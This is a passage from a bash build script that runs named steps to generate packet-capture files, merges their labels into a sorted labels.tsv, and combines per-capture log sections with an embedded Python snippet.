if [ "${1:-}" = --list ]; then printf '%s\n' "${steps[@]}"; exit 0; fi
partial=
[ $# -gt 0 ] && { steps=("$@"); partial=1; }

for s in "${steps[@]}"; do
    declare -F "$s" >/dev/null || { echo "make.sh: no step $s (see --list)" >&2; exit 2; }
done
mkdir -p "$OUT"
[ -z "$partial" ] && rm -f "$OUT"/*.pcap "$OUT/labels.tsv"
mkdata
for s in "${steps[@]}"; do "$s"; done

# Labels of files not remade this run are kept; those remade are replaced.
made=$(cut -f1 "$LABELS" | sort -u)
{
    printf 'file\tfamily\tinitiator\tresponder\tlabel\tnote\n'
    if [ -f "$OUT/labels.tsv" ]; then
        tail -n +2 "$OUT/labels.tsv" | awk -F'\t' -v made="$made" 'BEGIN { n = split(made, m, "\n"); for (i = 1; i <= n; i++) skip[m[i]] = 1 } !($1 in skip)'
    fi
    cat "$LABELS"
} >"$OUT/labels.new" && sort -t$'\t' -k1,1 -s -o "$OUT/labels.body" <(tail -n +2 "$OUT/labels.new") \
    && { head -1 "$OUT/labels.new"; cat "$OUT/labels.body"; } >"$OUT/labels.tsv"
rm -f "$OUT/labels.new" "$OUT/labels.body"
if [ -z "$partial" ] || [ ! -f "$OUT/make.log" ]; then cp "$LOG" "$OUT/make.log"
else  # a partial run replaces the sections of the captures it remade
    $PY - "$OUT/make.log" "$LOG" <<'EOF'
import re, sys
def sections(text):
    parts = re.split(r"(?m)^(?=== )", text)
    return {p.split("\n", 1)[0]: p for p in parts if p.startswith("== ")}
old = sections(open(sys.argv[1]).read())
old.update(sections(open(sys.argv[2]).read()))
open(sys.argv[1], "w").write("".join(old.values()))
EOF
fi
echo "make.sh: done; see $OUT/make.log, then run check.py"
